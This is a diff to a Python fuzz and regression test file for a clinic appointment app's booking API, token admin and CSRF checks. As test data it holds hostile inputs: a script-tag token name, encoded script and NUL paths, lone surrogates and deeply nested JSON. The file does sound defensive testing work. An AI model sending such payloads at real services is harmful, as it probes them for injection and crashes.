+    elif isinstance(value, Exception) or not isinstance(value, dict):
+        expected = 400
+    elif not isinstance(value.get("external_id"), str) or not typed(value["external_id"]):
+        expected = 422  # required, as text: one of blanks or invisible characters only is missing
+    else:
+        faults, booking = booking_faults(value)
+        replay = typed(value["external_id"]) == EXISTING
+        halves = {k for k, v in value.items() if isinstance(v, str) and any(unicodedata.category(c) == "Cs" for c in v)}
+        if halves:
+            # A lone surrogate: the field refused (422), or the character dropped as a control character is; never
+            # stored as it came (no encoding has it), never a 500.
+            allowed = (422,) if faults - halves else (201, 422)
+            expected = response.status_code if response.status_code in allowed else 422
+            if expected == 201:
+                with app.app_context():
+                    stored = db.session.scalar(select(Appointment).order_by(Appointment.id.desc()))
+                    assert not any(unicodedata.category(c) == "Cs" for c in stored.client_name + stored.client_email)
+        elif faults:
+            expected = 422
+            assert response.status_code != 422 or {e["field"] for e in response.json["errors"]} == faults, \
+                (response.json, faults)
+        elif replay:
+            expected = 200 if booking == EXISTING_BOOKING else 409
+        else:
+            expected = 201
+    event(f"api create: {expected}")
+    assert response.status_code == expected, (response.status_code, expected, raw[:300], response.get_data()[:500])
+    assert created == (expected == 201), created
+    if expected >= 400:
+        assert response.mimetype == "application/problem+json", response.mimetype
+        assert response.json["status"] == expected
+    else:
+        body = response.json
+        assert body["external_id"] == typed(value["external_id"]), body
+        assert body["name"] == typed(value["name"]) or any(unicodedata.category(c) == "Cs" for c in value["name"])
+        assert response.headers["Location"].endswith("/api/v1/appointments/" + quote(body["external_id"]))
+        drop_appointments(app, keep=api["existing"])
+
+
+@fuzz(15)
+@given(data=st.data())
+def test_fuzz_api_tokens(app, booker, data):
+    """An admin creates a booking system's token (shown once, 200) only under a new name of 1 to 60 characters,
+    and revokes a live one by its name (303 whatever the name); nothing changes otherwise."""
+    client = booker["client"]
+    with app.app_context():
+        db.session.execute(delete(ApiToken).where(ApiToken.name != "Timely"))
+        db.session.execute(update(ApiToken).values(revoked_at=None))
+        db.session.commit()
+        if not db.session.scalar(select(func.count()).select_from(ApiToken)):
+            create_token(db.session, "Timely")
+    good = token(client, "/staff/admin/api-tokens")
+    action = data.draw(st.sampled_from(["create", "revoke"]), label="action")
+    name = data.draw(st.one_of(st.sampled_from(["Cliniko", "  Fresha   booking ", "Timely", " timely", "a" * 60,
+                                                "a" * 61, "", f"<script>x{TOKEN}7</script>", "Ti\x00mely"]),
+                               hostile_text()))
+    pairs = [("csrf_token", good), ("name", name)]
+    if data.draw(st.booleans()):
+        pairs = mutate(data.draw, pairs, ["csrf_token", "name"], ["Timely"], [])
+    with app.app_context():
+        before = {n: r is not None for n, r in db.session.execute(select(ApiToken.name, ApiToken.revoked_at))}
+    url = "/staff/admin/api-tokens" + ("/revoke" if action == "revoke" else "")
+    response = post_form(client, url, pairs)
+    check(response, f"api token {action}")
+    with app.app_context():
+        after = {n: r is not None for n, r in db.session.execute(select(ApiToken.name, ApiToken.revoked_at))}
+    typed_name = first(pairs, "name") or ""
+    if first(pairs, "csrf_token") != good:
+        assert response.status_code == 400 and after == before, response.status_code
+    elif action == "create":
+        wanted = " ".join(typed_name.split())
+        if any(unicodedata.category(c) == "Cc" for c in wanted):  # refused, or created with them dropped
+            assert response.status_code in (200, 400) and len(after) - len(before) == (response.status_code == 200)
+        elif wanted and len(wanted) <= 60 and wanted not in before:
+            assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
+            assert re.search(r"scr_[A-Za-z0-9_-]{40,}", response.text), "the token is shown once"
+            assert after == dict(before, **{wanted: False}), after
+        else:
+            assert response.status_code == 400 and after == before, (response.status_code, wanted)
+            check_round_trip(response, pairs, "api token")
+    else:
+        assert response.status_code == 303, response.status_code
+        assert after == (dict(before, **{typed_name[:60]: True}) if before.get(typed_name[:60]) is False else before)
+
+
+def test_the_api_answers_401_to_a_staff_session_without_a_bearer_token(app):
+    """The API reads no cookie: a signed-in desk's browser (a page of another site posting to it) is a 401."""
+    client = staff_client(app, add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"]))
+    csrf = token(client, "/staff/appointments/new")
+    body = dict(GOOD_BOOKING, external_id="BK-1")
+    for headers in ({}, {"X-CSRFToken": csrf}, {"Authorization": ""}, {"Authorization": "Bearer "}):
+        response = client.post("/api/v1/appointments", json=body, headers=headers)
+        assert response.status_code == 401, (headers, response.status_code)
+        assert response.mimetype == "application/problem+json" and response.headers["WWW-Authenticate"]
+        check_json(response, "api without a token")
+    assert count(app, Appointment) == 0
+
+
 # -- query strings on every page -----------------------------------------------------------------------
 
 QUERY_NAMES = ["date", "outcome", "status", "page", "action", "actor", "date_from", "date_to", "next", "expired",
-               "change", "version", "download", "timeout", "signed_out", "reference", "name"]
+               "change", "version", "download", "timeout", "signed_out", "reference", "name", "day", "q",
+               "not_screened"]
 
 
 def get_urls(app, staff) -> list[str]:
     """One URL for each GET route (staff ones with real references), and some odd paths."""
-    args = {"page_id": qd.PAGES[0].id, "reference": staff["today"], "user_id": staff["user_id"]}
+    args = {"page_id": qd.PAGES[0].id, "reference": staff["today"], "user_id": staff["user_id"],
+            "uid": staff["uid"], "token": "x" * 43, "external_id": EXISTING}
     urls = []
     for rule in app.url_map.iter_rules():
         if "GET" not in rule.methods or rule.endpoint == "static":
@@ -771,7 +1480,8 @@ def get_urls(app, staff) -> list[str]:
         if rule.endpoint == "questionnaire.logo":
             continue  # no logo configured: a plain 404
         urls.append(rule.build({a: args[a] for a in rule.arguments})[1])
-    return sorted(urls) + ["/q/%ED%A0%80", "/staff/submissions/%3Cscript%3E", "/q/%00", "/staff/desk/%FF/pdf"]
+    return sorted(urls) + ["/q/%ED%A0%80", "/staff/submissions/%3Cscript%3E", "/q/%00", "/staff/desk/%FF/pdf",
+                           "/staff/appointments/%00", "/i/%00"]
 
 
 @fuzz(40)
@@ -783,6 +1493,7 @@ def test_fuzz_query_strings(app, staff, data):
         staff["pdf"] = True
         staff["public"] = app.test_client()
         new_draft(app, staff["public"], BASE)
+        staff["uid"] = book_appointment(app, external_id=EXISTING)[0]
     url = data.draw(st.sampled_from(get_urls(app, staff)), label="url")
     client = staff["client"] if url.startswith("/staff/") else staff["public"]
     args = data.draw(query_pairs(QUERY_NAMES))
@@ -803,6 +1514,14 @@ def test_every_post_route_refuses_a_missing_or_wrong_csrf_token(app):
     new_draft(app, public, BASE)
     new_draft(app, kiosk_client, BASE)
     staff = staff_client(app, user_id)
+    uid, link = book_appointment(app)
+    invited_client, passed_client = app.test_client(), app.test_client()
+    follow_link(invited_client, link)
+    follow_link(passed_client, link, passed=True)
+    with app.app_context():
+        draft = appointments.start_screening(db.session, appointments.by_uid(db.session, uid), dt.timedelta(hours=1))
+    with passed_client.session_transaction() as session:
+        session["draft"] = draft
     foreign = csrf_token(app.test_client().get("/").text)  # a valid token, of another session
     urls = {
         "questionnaire.begin": (public, "/start"), "questionnaire.page": (public, f"/q/{qd.PAGES[0].id}"),
@@ -818,14 +1537,29 @@ def test_every_post_route_refuses_a_missing_or_wrong_csrf_token(app):
         "staff.arrived": (staff, f"/staff/desk/{reference}/arrived"),
         "staff.kiosk_start": (staff, "/staff/kiosk/start"),
         "staff.deactivate": (staff, f"/staff/admin/users/{other}/deactivate"),
+        "staff.new_appointment": (staff, "/staff/appointments/new"),
+        "staff.import_csv": (staff, "/staff/appointments/import"),
+        "staff.resend": (staff, f"/staff/appointments/{uid}/resend"),
+        "staff.copy_link": (staff, f"/staff/appointments/{uid}/link"),
+        "staff.unlock": (staff, f"/staff/appointments/{uid}/unlock"),
+        "staff.cancel": (staff, f"/staff/appointments/{uid}/cancel"),
+        "staff.attach": (staff, f"/staff/appointments/{uid}/attach"),
+        "invitation.check_dob": (invited_client, "/invitation"),
+        "invitation.booking": (passed_client, "/invitation/booking"),
+        "staff.create_api_token": (staff, "/staff/admin/api-tokens"),
+        "staff.revoke_api_token": (staff, "/staff/admin/api-tokens/revoke"),
     }
-    assert set(urls) == set(FUZZED)
+    # The API takes no CSRF token: it reads a bearer token, never a cookie (see the 401 test below).
+    assert set(urls) == set(FUZZED) - {"api.create"}
     data = {"action": "restart", "confirm": "y", "signature": NAME, "email": "boss@clinic.test",
             "password": PASSWORD, "decision": "decline", "ack_0": "yes", "text": "note", "name": "Ann",
-            **page_data(qd.PAGES[0], BASE)}
+            **page_data(qd.PAGES[0], BASE), **{k: v for k, v in GOOD_BOOKING.items() if k != "name"},
+            "reference": reference, "facts": "wrong", "dob-day": "1", "dob-month": "1", "dob-year": "1991"}
     with app.app_context():
-        tables = [Draft, Submission, Review, Addendum, Arrival, KioskSession]
+        tables = [Draft, Submission, Review, Addendum, Arrival, KioskSession, Appointment, InvitationLink, Outbox,
+                  ApiToken]
         before = {m.__name__: db.session.scalar(select(func.count()).select_from(m)) for m in tables}
+    booked = appointment_state(app, uid)
     for endpoint, (client, url) in urls.items():
         good = token(client, "/kiosk/exit" if client is kiosk_client else "/staff/desk" if client is staff else "/")
         for bad in ([], [("csrf_token", "")], [("csrf_token", "x" * 90)], [("csrf_token", foreign)],
@@ -854,6 +1588,7 @@ def test_every_post_route_refuses_a_missing_or_wrong_csrf_token(app):
         after = {m.__name__: db.session.scalar(select(func.count()).select_from(m)) for m in tables}
         assert after == before
         assert db.session.scalar(select(StaffUser.is_active).where(StaffUser.id == other))
+        assert appointment_state(app, uid) == booked  # not cancelled, unlocked, attached, disputed or tried
         assert db.session.scalar(select(func.count()).select_from(StaffSession)
                                  .where(StaffSession.ended_at.is_not(None))) == 1  # the kiosk's start only
 
@@ -981,3 +1716,86 @@ def test_a_kiosk_page_shows_what_was_typed_even_with_autocomplete_in_it(app, kio
     assert response.status_code == 400
     values = input_values(response.text)
     assert values["full_name"] == [typed] and values["email"] == ['a autocomplete="on"@b.co']
+
+
+# -- regressions: appointments (found by the fuzzing above; each fails until screening.appointments is fixed) ------
+# One app per test (each case in a loop, named in its assertion), to keep to the module's time budget.
+
+
+def api_client(app) -> tuple:
+    """A client and the headers of a live bearer token (the account ``PRACTITIONER`` exists too)."""
+    add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"])
+    with app.app_context():
+        return app.test_client(), {"Authorization": f"Bearer {create_token(db.session, 'regression')}"}
+
+
+def test_a_very_long_booking_field_is_refused_not_a_server_error(app):
+    """check_booking read LIMITS[field] to word the message for a field without a limit of its own (over 10,000
+    characters: date_of_birth, date, time, treatment): KeyError, a 500 from the desk's form, the CSV import and
+    the API."""
+    client, headers = api_client(app)
+    with app.app_context():
+        staff = staff_client(app, db.session.scalar(select(StaffUser.id).where(StaffUser.email == PRACTITIONER)))
+    csrf = token(staff, "/staff/appointments/new")
+    for field in ("date_of_birth", "date", "time", "treatment"):
+        booking = dict(GOOD_BOOKING, **{field: "1" * 10_001})
+        response = post_form(staff, "/staff/appointments/new", [("csrf_token", csrf)] + pairs_of(booking))
+        assert response.status_code == 400, ("form", field, response.status_code)
+        text = io.StringIO()
+        csv.writer(text).writerows([list(booking), [";".join(v) if isinstance(v, list) else v
+                                                    for v in booking.values()]])
+        response = staff.post("/staff/appointments/import", content_type="multipart/form-data", data={
+            "csrf_token": csrf, "file": (io.BytesIO(text.getvalue().encode()), "bookings.csv")})
+        assert response.status_code == 400, ("csv", field, response.status_code)
+        response = client.post("/api/v1/appointments", json=dict(booking, external_id="BK-1"), headers=headers)
+        assert response.status_code == 422, ("api", field, response.status_code)
+        assert {e["field"] for e in response.json["errors"]} == {field}
+    assert count(app, Appointment) == 0
+
+
+def test_hostile_json_is_a_4xx_and_books_nothing(app):
+    """Three 500s of the API's create:
+    - a body nested some thousands deep: json.loads raises RecursionError (not a ValueError);
+    - an external_id of blanks or invisible characters passed "external_id is required" (truthy), then cleaned to
+      nothing: the appointment was booked without one and its invitation queued, then url_for("api.read",
+      external_id=None) raised BuildError;
+    - half of a UTF-16 pair escaped in a string ("\\ud800"): the str reached the database, which cannot encode it
+      (UnicodeEncodeError). Refusing the field (422) or dropping the character (201) are both fine for this one."""
+    client, headers = api_client(app)
+    deep = "[" * 5000 + "]" * 5000
+    for body in (deep, '{"name": ' + deep + "}", '{"a":' * 5000 + "1" + "}" * 5000):
+        response = client.post("/api/v1/appointments", data=body, content_type="application/json", headers=headers)
+        assert response.status_code == 400 and response.mimetype == "application/problem+json", body[:20]
+    for external_id in ("  ", "\x00", "\u200e"):
+        response = client.post("/api/v1/appointments", json=dict(GOOD_BOOKING, external_id=external_id),
+                               headers=headers)
+        assert response.status_code == 422, (external_id, response.status_code)
+        assert response.json["errors"][0]["field"] == "external_id"
+        assert count(app, Appointment) == 0 and count(app, Outbox) == 0, external_id
+    for field, value in (("name", "Ann \ud800 Example"), ("email", "ann\udc80@example.org"),
+                         ("external_id", "BK-\ud83d")):
+        body = json.dumps(dict(GOOD_BOOKING, **{"external_id": f"BK-{field}", field: value}))  # ASCII: "\\ud800"
+        response = client.post("/api/v1/appointments", data=body, content_type="application/json", headers=headers)
+        assert response.status_code in (201, 422), (field, response.status_code)
+        drop_appointments(app)
+
+
+def test_a_nul_in_an_address_or_a_token_name_is_not_a_server_error(app):
+    """PostgreSQL refuses a NUL in a query: an appointment's uid or an external_id in the address matched no
+    appointment (404), a token's name no token, and each was a 500."""
+    client, headers = api_client(app)
+    with app.app_context():
+        staff = staff_client(app, db.session.scalar(select(StaffUser.id).where(StaffUser.email == PRACTITIONER)))
+    csrf = token(staff, "/staff/appointments/new")
+    for action in ("resend", "link", "unlock", "cancel", "attach"):
+        response = post_form(staff, f"/staff/appointments/a%00b/{action}", [("csrf_token", csrf)])
+        assert response.status_code == 404, (action, response.status_code)
+    assert staff.get("/staff/appointments/a%00b").status_code == 404
+    for method in ("get", "put", "delete"):
+        response = getattr(client, method)("/api/v1/appointments/a%00b", headers=headers,
+                                           **({"json": dict(GOOD_BOOKING)} if method == "put" else {}))
+        assert response.status_code == 404 and response.mimetype == "application/problem+json", method
+    for path in ("/staff/admin/api-tokens", "/staff/admin/api-tokens/revoke"):
+        response = post_form(staff, path, [("csrf_token", csrf), ("name", "Ti\x00mely")])
+        assert response.status_code in (200, 303, 400), (path, response.status_code)
+        check(response, path)
